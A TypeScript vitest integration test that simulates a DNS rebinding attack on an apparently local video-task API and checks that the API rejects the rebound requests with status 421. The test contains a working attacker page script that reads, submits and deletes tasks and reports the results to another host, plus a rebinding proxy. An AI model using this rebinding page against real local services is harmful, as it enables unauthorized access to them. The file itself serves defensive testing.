import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { connect, createServer as createTcpServer, type AddressInfo } from 'node:net';
import { afterEach, expect, it } from 'vitest';
import { startApiUnderTest } from '../integration/api/api-under-test.js';
import { eventually } from '../support/eventually.js';
import { openBrowser } from './open-browser.js';

const closers: (() => unknown)[] = [];
afterEach(async () => {
  for (const close of closers.splice(0).reverse()) await close();
});

/** The status of the attacker's own answers. */
const NOT_YET = 299;

/** The page of an attacker. It asks its own origin again and again, until that is another server; then it reports the answers of that one. */
const page = (reportTo: string) => `<!doctype html><script type="module">
  const ask = (path, init) => fetch(path, { cache: 'no-store', ...init }).then((answer) => answer.status, () => 0);
  const json = { method: 'POST', headers: { 'content-type': 'application/json' } };
  for (;;) {
    const list = await ask('/v1/tasks');
    if (list !== 0 && list !== ${NOT_YET}) {
      const spec = { montage: { materials: [{ uri: 'a.mp4' }] } };
      const submit = await ask('/v1/tasks', { ...json, body: JSON.stringify({ spec }) });
      const other = await ask('/api/v1/videos', { ...json, body: '{}' });
      const remove = await ask('/v1/tasks/01a21950-e847-76a9-9406-088abe5bdf77', { method: 'DELETE' });
      await fetch('${reportTo}', { method: 'POST', mode: 'no-cors', body: JSON.stringify([list, submit, other, remove]) });
      break;
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
</script>`;

async function listen(server: Server, host: string, port = 0): Promise<number> {
  server.listen(port, host);
  await once(server, 'listening');
  return (server.address() as AddressInfo).port;
}

async function close(server: Server): Promise<void> {
  server.close();
  server.closeAllConnections();
  await once(server, 'close');
}

it('a page whose name is bound to this machine after it was loaded reads and changes nothing', async () => {
  const under = await startApiUnderTest();
  closers.push(() => under.stop());
  const port = under.api.httpPort;
  let reported: readonly number[] | null = null;
  const reports = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      reported = JSON.parse(body) as readonly number[];
      response.end();
    });
  });
  const reportPort = await listen(reports, '127.0.0.1');
  closers.push(() => close(reports));

  // The same port on another address of this machine: to the browser it is the same origin all the time.
  let isLoaded = false;
  const attacker = createServer((request, response) => {
    isLoaded ||= request.url === '/v1/tasks';
    response.writeHead(request.url === '/' ? 200 : NOT_YET, { 'content-type': 'text/html' });
    response.end(request.url === '/' ? page(`http://127.0.0.1:${reportPort}/`) : '');
  });
  await listen(attacker, '127.0.0.2', port);
  closers.push(await openBrowser(`http://evil.test:${port}/`, ['--host-resolver-rules=MAP evil.test 127.0.0.2']));
  await eventually('the page asks its own server', () => isLoaded, 60_000);

  await close(attacker);
  const rebound = createTcpServer((near) => {
    const far = connect(port, '127.0.0.1');
    near.on('error', () => far.destroy()).pipe(far);
    far.on('error', () => near.destroy()).pipe(near);
  });
  rebound.listen(port, '127.0.0.2');
  await once(rebound, 'listening');
  closers.push(() => rebound.close());

  await eventually('the page reports', () => reported !== null, 60_000);
  expect(reported).toEqual([421, 421, 421, 421]);
  expect((await under.store.stats()).queued).toBe(0);
});
